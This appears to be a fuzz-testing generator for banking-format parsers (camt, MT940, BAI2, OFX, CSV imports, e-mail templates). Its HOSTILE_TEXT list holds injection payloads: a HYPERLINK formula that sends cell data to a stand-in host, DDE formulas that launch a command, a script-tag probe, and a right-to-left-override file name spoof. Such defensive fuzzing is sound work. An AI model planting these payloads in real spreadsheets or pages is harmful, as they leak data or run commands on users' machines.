/**
 * Generated inputs: small grammars of each format (camt, MT940/942, BAI2, OFX, the CSV statement
 * profiles, the CSV imports, remittance advices, e-mail templates) filled with awkward values —
 * amounts at and beyond the limits, impossible dates, every Unicode plane, markup, formulas and
 * placeholders in text fields. Structurally plausible documents reach the code behind the syntax
 * checks, which random bytes rarely do.
 */
import fc from 'fast-check';
import {
  type ColumnName,
  CSV_PROFILES,
  type CsvProfile,
} from '../../src/modules/bank/parsers/csv-profiles.ts';
import { CUSTOMER_COLUMNS } from '../../src/modules/imports/customers-import.ts';
import { INVOICE_COLUMNS } from '../../src/modules/imports/invoices-import.ts';
import { MESSAGE_KINDS, variablesOf } from '../../src/modules/messaging/template-catalog.ts';

const pick = <T>(...values: T[]) => fc.constantFrom(...values);

export const HOSTILE_TEXT: readonly string[] = [
  '=HYPERLINK("http://x.example/?"&A1,"Klick")',
  "=cmd|' /C calc'!A0",
  '+1-2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '<script>alert(1)</script>',
  '{{customer_name}}',
  '{{#if x}}',
  '&lol9;',
  ']]>',
  '"',
  '""',
  "O'Brien & Söhne",
  'Müller Bau GmbH',
  'Mueller Bau GmbH',
  '\u202Egnp.exe',
  'Ⅻ ﬁ ẞ Ω',
  '\u{1F4B6}\u{1F600}',
  '\u0000',
  '\u001b[31mred',
  '\uD800',
  'ñ'.normalize('NFD'),
  'a'.repeat(300),
];

const text = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
);

const digits = (min: number, max: number) =>
  fc.string({ unit: fc.constantFrom(...'0123456789'), minLength: min, maxLength: max });

/** An amount as some system might write it, with `sep` as decimal separator. */
const amountWith = (sep: '.' | ',') =>
  fc.oneof(
    {
      weight: 4,
      arbitrary: fc.tuple(digits(1, 6), digits(0, 3)).map(([i, f]) => (f ? `${i}${sep}${f}` : i)),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(pick('-', '+', '(', ''), digits(1, 25)).map(([s, d]) => `${s}${d}${sep}00`),
    },
    {
      weight: 2,
      arbitrary: pick(
        '0',
        `0${sep}00`,
        `-12${sep}50`,
        `1${sep}234${sep}56`,
        '1.234,56',
        '1,234.56',
        '100000000000.00',
        '100000000000.01',
        '92233720368547758.07',
        '99999999999999999999999999999',
        '1e5',
        'NaN',
        '-',
        '',
        ' 12 ',
        '5.00-',
        '(5.00)',
        '0x10',
        '٣٤',
      ),
    },
  );
const amount = amountWith('.');

const date = fc.oneof(
  {
    weight: 3,
    arbitrary: fc
      .date({ min: new Date('1850-01-01'), max: new Date('2250-12-31'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10)),
  },
  {
    weight: 2,
    arbitrary: pick(
      '2026-03-01',
      '2026-02-30',
      '2026-13-01',
      '0000-00-00',
      '9999-12-31',
      '1899-12-31',
      '2200-01-01',
      '',
      'x',
      '2026-3-1',
    ),
  },
);
const yymmdd = fc.oneof(digits(6, 6), pick('260301', '260230', '991231', '000000', '26030'));
const yyyymmdd = fc.oneof(digits(8, 8), pick('20260301', '20260230', '19000101', '2026030112000', ''));
const currency = pick('EUR', 'JPY', 'KWD', 'USD', 'CHF', 'XXX', 'eur', 'E', 'EURO', '', '€');
const iban = pick(
  'DE89370400440532013000',
  'DE89 3704 0044 0532 0130 00',
  'DE00370400440532013000',
  'GB82WEST12345698765432',
  'NL91ABNA0417164300',
  'X',
  '',
);

const xmlEscape = (s: string) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
/** Text in an XML element: escaped usually, raw (possibly breaking the markup) sometimes. */
const xmlText = fc.oneof({ weight: 4, arbitrary: text.map(xmlEscape) }, { weight: 1, arbitrary: text });

// ---------------------------------------------------------------------------------------------
// camt.052/053/054

const camtTx = fc
  .record({
    amount,
    ccy: currency,
    e2e: xmlText,
    name: xmlText,
    iban,
    ustrd: xmlText,
    ref: xmlText,
    cd: pick('CRDT', 'DBIT'),
  })
  .map(
    (t) =>
      `<TxDtls><Refs><EndToEndId>${t.e2e}</EndToEndId></Refs><AmtDtls><TxAmt><Amt Ccy="${t.ccy}">${t.amount}</Amt></TxAmt></AmtDtls>` +
      `<CdtDbtInd>${t.cd}</CdtDbtInd><RltdPties><Dbtr><Nm>${t.name}</Nm></Dbtr><DbtrAcct><Id><IBAN>${t.iban}</IBAN></Id></DbtrAcct></RltdPties>` +
      `<RmtInf><Ustrd>${t.ustrd}</Ustrd><Strd><CdtrRefInf><Ref>${t.ref}</Ref></CdtrRefInf><RfrdDocInf><Nb>${t.ref}</Nb></RfrdDocInf></Strd></RmtInf></TxDtls>`,
  );

const camtEntry = fc
  .record({
    amount,
    ccy: currency,
    cd: pick('CRDT', 'DBIT', 'X', ''),
    sts: pick('BOOK', 'PDNG', '<Cd>BOOK</Cd>', 'INFO'),
    booked: date,
    value: date,
    reversal: pick('true', 'false', 'TRUE', ''),
    txs: fc.array(camtTx, { maxLength: 4 }),
  })
  .map(
    (e) =>
      `<Ntry><Amt Ccy="${e.ccy}">${e.amount}</Amt><CdtDbtInd>${e.cd}</CdtDbtInd><RvslInd>${e.reversal}</RvslInd><Sts>${e.sts}</Sts>` +
      `<BookgDt><Dt>${e.booked}</Dt></BookgDt><ValDt><Dt>${e.value}</Dt></ValDt>` +
      `<BkTxCd><Domn><Cd>PMNT</Cd><Fmly><Cd>RCDT</Cd><SubFmlyCd>ESCT</SubFmlyCd></Fmly></Domn></BkTxCd>` +
      `<NtryDtls>${e.txs.join('')}</NtryDtls></Ntry>`,
  );

const camtBalance = fc
  .record({
    code: pick('OPBD', 'CLBD', 'PRCD', 'ITBD', 'XXXX'),
    amount,
    ccy: currency,
    cd: pick('CRDT', 'DBIT', ''),
    date,
  })
  .map(
    (b) =>
      `<Bal><Tp><CdOrPrtry><Cd>${b.code}</Cd></CdOrPrtry></Tp><Amt Ccy="${b.ccy}">${b.amount}</Amt>` +
      `<CdtDbtInd>${b.cd}</CdtDbtInd><Dt><Dt>${b.date}</Dt></Dt></Bal>`,
  );

const CAMT_MESSAGES: readonly { ns: string; root: string; record: string }[] = [
  { ns: 'camt.053.001.02', root: 'BkToCstmrStmt', record: 'Stmt' },
  { ns: 'camt.052.001.08', root: 'BkToCstmrAcctRpt', record: 'Rpt' },
  { ns: 'camt.054.001.04', root: 'BkToCstmrDbtCdtNtfctn', record: 'Ntfctn' },
];

export const camtDocument = fc
  .record({
    message: fc.constantFrom(...CAMT_MESSAGES),
    prefix: pick('', 'ns2:'),
    created: date,
    records: fc.array(
      fc.record({
        id: xmlText,
        iban,
        ccy: currency,
        balances: fc.array(camtBalance, { maxLength: 3 }),
        entries: fc.array(camtEntry, { maxLength: 6 }),
      }),
      { maxLength: 3 },
    ),
  })
  .map(({ message, prefix: p, created, records }) => {
    const { ns, root, record } = message;
    const body = records
      .map(
        (r) =>
          `<${record}><Id>${r.id}</Id><CreDtTm>${created}T10:00:00</CreDtTm><Acct><Id><IBAN>${r.iban}</IBAN></Id><Ccy>${r.ccy}</Ccy></Acct>` +
          `${r.balances.join('')}${r.entries.join('')}</${record}>`,
      )
      .join('');
    return (
      `<?xml version="1.0" encoding="UTF-8"?>\n<${p}Document xmlns${p ? `:${p.slice(0, -1)}` : ''}="urn:iso:std:iso:20022:tech:xsd:${ns}">` +
      `<${p}${root}><GrpHdr><MsgId>M1</MsgId><CreDtTm>${created}T10:00:00</CreDtTm></GrpHdr>${body}</${p}${root}></${p}Document>`
    );
  });

// ---------------------------------------------------------------------------------------------
// MT940 / MT942

const swiftAmount = amountWith(',');
const mtLine = fc.oneof(
  fc.tuple(pick(':20:', ':21:', ':28C:', ':28:'), text).map(([t, v]) => `${t}${v}`),
  fc.tuple(pick(':25:'), fc.oneof(iban, text)).map(([t, v]) => `${t}${v}`),
  fc
    .tuple(
      pick(':60F:', ':60M:', ':62F:', ':62M:', ':64:', ':65:'),
      pick('C', 'D', 'X'),
      yymmdd,
      currency,
      swiftAmount,
    )
    .map((p) => p.join('')),
  fc
    .tuple(
      yymmdd,
      fc.oneof(digits(4, 4), fc.constant('')),
      pick('C', 'D', 'RC', 'RD', 'EC', ''),
      swiftAmount,
      pick('NTRF', 'NMSC', 'FCHG', 'N', ''),
      text,
      text,
    )
    .map(([d, e, cd, a, code, ref, bank]) => `:61:${d}${e}${cd}${a}${code}${ref}//${bank}`),
  fc
    .array(fc.tuple(pick('?20', '?21', '?32', '?33', '/EREF/', '/REMI/', '/NAME/', ''), text), {
      maxLength: 6,
    })
    .map((parts) => `:86:${parts.map(([k, v]) => `${k}${v}`).join('\n')}`),
  fc.tuple(pick(':34F:', ':13D:', ':90D:', ':90C:'), currency, swiftAmount).map((p) => p.join('')),
  pick(
    '-',
    '-}',
    '{1:F01BANKDEFFXXXX0000000000}{2:O9401200260301BANKDEFFXXXX00000000002603011200N}{4:',
    '{5:}',
    '',
    '@@',
  ),
);
export const mt940Document = fc
  .array(mtLine, { minLength: 1, maxLength: 40 })
  .map((lines) => `${lines.join('\r\n')}\r\n`);

// ---------------------------------------------------------------------------------------------
// BAI2

const baiField = fc.oneof(
  text.map((t) => t.replace(/[,/]/g, '')),
  digits(0, 12),
  pick('', '+', '-', 'Z', 'V', 'S', 'D'),
);
const baiRecord = fc.oneof(
  fc
    .tuple(pick('01'), fc.array(baiField, { minLength: 3, maxLength: 8 }))
    .map(([c, f]) => [c, ...f].join(',')),
  fc
    .tuple(pick('02'), baiField, baiField, pick('1', '2', '3', ''), yymmdd, digits(4, 4), currency)
    .map((p) => `${p.join(',')},2`),
  fc
    .tuple(
      pick('03'),
      digits(4, 12),
      currency,
      pick('010', '015', '040', '100', '400'),
      amount.map((a) => a.replace('.', '')),
      baiField,
    )
    .map((p) => `${p.join(',')},,`),
  fc
    .tuple(
      pick('16'),
      pick('165', '195', '475', '699', '999', ''),
      fc.oneof(digits(1, 20), amount),
      pick('Z', '0', 'S', 'V', 'D'),
      baiField,
      baiField,
      text.map((t) => t.replace(/\//g, '')),
    )
    .map((p) => p.join(',')),
  fc.tuple(pick('88'), text).map((p) => p.join(',')),
  fc
    .tuple(pick('49', '98', '99'), fc.oneof(digits(1, 22), pick('-1', '')), digits(1, 4), digits(0, 4))
    .map((p) => p.join(',')),
);
export const bai2Document = fc
  .array(baiRecord, { minLength: 1, maxLength: 40 })
  .map((records) => `01,SENDER,RECEIVER,260301,1200,1,,,2/\n${records.map((r) => `${r}/`).join('\n')}\n`);

// ---------------------------------------------------------------------------------------------
// OFX

const ofxElement = (tag: string, value: fc.Arbitrary<string>) =>
  fc.tuple(value, fc.boolean()).map(([v, closed]) => `<${tag}>${v}${closed ? `</${tag}>` : ''}`);
const ofxTransaction = fc
  .tuple(
    ofxElement('TRNTYPE', pick('CREDIT', 'DEBIT', 'XFER', 'OTHER', '')),
    ofxElement('DTPOSTED', fc.oneof(yyyymmdd, pick('20260301120000[-5:EST]', '20260301120000.000[+1]'))),
    ofxElement('TRNAMT', amount),
    ofxElement('FITID', text.map(xmlEscape)),
    ofxElement('NAME', xmlText),
    ofxElement('MEMO', xmlText),
  )
  .map((parts) => `<STMTTRN>${parts.join('\n')}</STMTTRN>`);
export const ofxDocument = fc
  .record({
    sgml: fc.boolean(),
    ccy: currency,
    acct: text.map(xmlEscape),
    transactions: fc.array(ofxTransaction, { maxLength: 10 }),
    balance: amount,
    asOf: yyyymmdd,
  })
  .map((o) => {
    const header = o.sgml
      ? 'OFXHEADER:100\nDATA:OFXSGML\nVERSION:102\nSECURITY:NONE\nENCODING:USASCII\nCHARSET:1252\nCOMPRESSION:NONE\nOLDFILEUID:NONE\nNEWFILEUID:NONE\n\n'
      : '<?xml version="1.0" encoding="UTF-8"?>\n<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE"?>\n';
    return (
      `${header}<OFX><BANKMSGSRSV1><STMTTRNRS><TRNUID>1<STMTRS><CURDEF>${o.ccy}<BANKACCTFROM><BANKID>1<ACCTID>${o.acct}</BANKACCTFROM>` +
      `<BANKTRANLIST><DTSTART>20260301<DTEND>20260331\n${o.transactions.join('\n')}\n</BANKTRANLIST>` +
      `<LEDGERBAL><BALAMT>${o.balance}<DTASOF>${o.asOf}</LEDGERBAL></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>\n`
    );
  });

// ---------------------------------------------------------------------------------------------
// CSV

/** A CSV cell: bare, quoted, or with a stray quote. */
const csvCell = (value: fc.Arbitrary<string>, delimiter: string) =>
  fc.tuple(value, pick('bare', 'quoted', 'stray')).map(([v, how]) => {
    if (how === 'quoted') return `"${v.replaceAll('"', '""')}"`;
    if (how === 'stray') return `${v}"`;
    return v.includes(delimiter) || /["\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v;
  });

const firstName = (c: ColumnName | undefined) =>
  c === undefined ? null : typeof c === 'string' ? c : (c[0] ?? null);

function profileColumns(p: CsvProfile): string[] {
  const sign = p.sign;
  const signColumns =
    sign.kind === 'signed'
      ? [sign.amount]
      : sign.kind === 'debit-credit'
        ? [sign.debit, sign.credit]
        : [sign.amount, sign.indicator];
  const named = [
    ...Object.values(p.columns).flatMap((c) => (Array.isArray(c) && typeof c[0] !== 'string' ? c : [c])),
    ...signColumns,
  ];
  return named.map((c) => firstName(c as ColumnName)).filter((c): c is string => c !== null);
}

function profileValue(p: CsvProfile, column: string): fc.Arbitrary<string> {
  const sign = p.sign;
  const amountColumns =
    sign.kind === 'signed'
      ? [sign.amount]
      : sign.kind === 'debit-credit'
        ? [sign.debit, sign.credit]
        : [sign.amount];
  if (amountColumns.some((c) => firstName(c) === column)) return amountWith(p.decimalSeparator);
  if (sign.kind === 'indicator' && firstName(sign.indicator) === column)
    return pick(...sign.debitValues, ...sign.creditValues, 'X', '');
  if (/dat|tag|valuta/i.test(column))
    return fc.oneof(date, yyyymmdd, pick('01.03.2026', '30.02.2026', '03/01/2026'));
  if (/iban|rekening|konto/i.test(column)) return iban;
  if (/w(ae|ä)hrung|currency/i.test(column)) return currency;
  return text;
}

export const csvStatementDocument = fc.constantFrom(...Object.values(CSV_PROFILES)).chain((p) => {
  const columns = profileColumns(p);
  return fc
    .tuple(fc.shuffledSubarray(columns, { minLength: 1 }), fc.integer({ min: 0, max: 12 }))
    .chain(([header, rows]) =>
      fc
        .array(fc.tuple(...header.map((c) => csvCell(profileValue(p, c), p.delimiter))), {
          minLength: rows,
          maxLength: rows,
        })
        .map((cells) => [header.join(p.delimiter), ...cells.map((r) => r.join(p.delimiter))].join('\r\n')),
    );
});

const customerValue: Record<string, fc.Arbitrary<string>> = {
  external_id: fc.oneof(pick('ACME', 'ACME-FR', 'acme', 'ACME ', 'C-1', ''), text),
  parent_external_id: fc.oneof(pick('ACME', 'ACME-FR', 'C-1', 'NOBODY', ''), text),
  email: fc.oneof(pick('ap@acme.example', 'buchhaltung@müller.de', 'a@b', 'x;y@z.example', '@', ''), text),
  country: pick('DE', 'FR', 'de', 'XX', 'DEU', ''),
  currency,
  payment_terms: pick('NET30', '2/10 NET30', 'NET-1', 'NET999999', 'EOM', ''),
  credit_limit: amount,
  bank_accounts: fc.oneof(
    iban,
    iban.map((i) => `${i};${i}`),
  ),
  language: pick('de', 'en', 'xx', 'DE', 'de-AT', ''),
  delivery: pick('email', 'post', 'print', 'both', ''),
};
const invoiceValue: Record<string, fc.Arbitrary<string>> = {
  number: fc.oneof(pick('2024-0815', 'INV-1', 'inv-1', 'INV-1 ', ''), text),
  customer_external_id: fc.oneof(pick('ACME', 'NOBODY', ''), text),
  issue_date: date,
  due_date: date,
  currency,
  total: amount,
  open_amount: amount,
  fx_rate: pick('1', '1.0842', '0', '-1', '1e3', 'x', ''),
  payment_reference: pick('RF18 5390 0754 7034', 'RF18539007547035', 'RF', 'rf00', '', '=1+1'),
};

/** A CSV with a header of known (and sometimes unknown or repeated) columns and rows of awkward values. */
function importCsv(
  columns: readonly string[],
  values: Record<string, fc.Arbitrary<string>>,
): fc.Arbitrary<string> {
  const header = fc.tuple(
    fc.shuffledSubarray([...columns], { minLength: 1 }),
    fc.option(pick('unknown', 'name', 'NUMBER', ' number', '')),
  );
  return header.chain(([known, extra]) => {
    const cols = extra === null ? known : [...known, extra];
    const row = fc.tuple(...cols.map((c) => csvCell(values[c.trim().toLowerCase()] ?? text, ',')));
    return fc
      .array(row, { maxLength: 15 })
      .map((rows) => [cols.join(','), ...rows.map((r) => r.join(','))].join(pickEnd(rows.length)));
  });
}
const pickEnd = (n: number) => (n % 3 === 0 ? '\r\n' : n % 3 === 1 ? '\n' : '\r');

export const customersCsv = importCsv(CUSTOMER_COLUMNS, customerValue);
export const invoicesCsv = importCsv(INVOICE_COLUMNS, invoiceValue);

const adviceHead = fc.array(
  fc
    .tuple(
      pick('Zahler', 'Payer', 'Datum', 'Date', 'Währung', 'Summe', 'Total', 'IBAN', 'Referenz', 'Kunde'),
      pick(':', ';', ',', ': '),
      fc.oneof(text, amount, date, iban),
    )
    .map((p) => p.join('')),
  { maxLength: 5 },
);
export const adviceCsv = fc
  .record({
    head: adviceHead,
    delimiter: pick(';', ',', '\t'),
    invoice: pick('invoice', 'Rechnungsnummer', 'Beleg', 'Facture', 'Document No.'),
    amountName: pick('amount', 'Betrag', 'Zahlbetrag', 'Montant'),
    extra: fc.array(pick('reason', 'Grund', 'payer', 'IBAN', 'currency', 'date', 'total', 'Skonto'), {
      maxLength: 3,
    }),
    rows: fc.array(
      fc.tuple(
        fc.oneof(text, pick('INV-1', 'RE-2026-001')),
        fc.oneof(amount, amountWith(',')),
        text,
        text,
        text,
      ),
      { maxLength: 12 },
    ),
    total: fc.option(amount),
  })
  .map((a) => {
    const header = [a.invoice, a.amountName, ...a.extra];
    const rows = a.rows.map((r) => r.slice(0, header.length).join(a.delimiter));
    const foot = a.total === null ? [] : [`Summe${a.delimiter}${a.total}`];
    return [...a.head, header.join(a.delimiter), ...rows, ...foot].join('\n');
  });

// ---------------------------------------------------------------------------------------------
// E-mail templates

const placeholderNames = [...new Set(MESSAGE_KINDS.flatMap((k) => variablesOf(k).map((v) => v.name)))];
const templateToken = fc.oneof(
  { weight: 4, arbitrary: text },
  { weight: 3, arbitrary: fc.constantFrom(...placeholderNames).map((n) => `{{${n}}}`) },
  { weight: 2, arbitrary: fc.constantFrom(...placeholderNames).map((n) => `{{#if ${n}}}`) },
  {
    weight: 1,
    arbitrary: pick(
      '{{else}}',
      '{{/if}}',
      '{{',
      '}}',
      '{{ }}',
      '{{#if}}',
      '{{Name}}',
      '{{a-b}}',
      '{{{x}}}',
      '\n',
      '\n\n',
      '\r\n',
    ),
  },
);
/** The first line is the subject, the rest the body. */
export const templateDocument = fc
  .tuple(fc.array(templateToken, { maxLength: 6 }), fc.array(templateToken, { maxLength: 60 }))
  .map(([subject, body]) => `${subject.join('').replace(/[\r\n]/g, ' ')}\n${body.join('')}`);
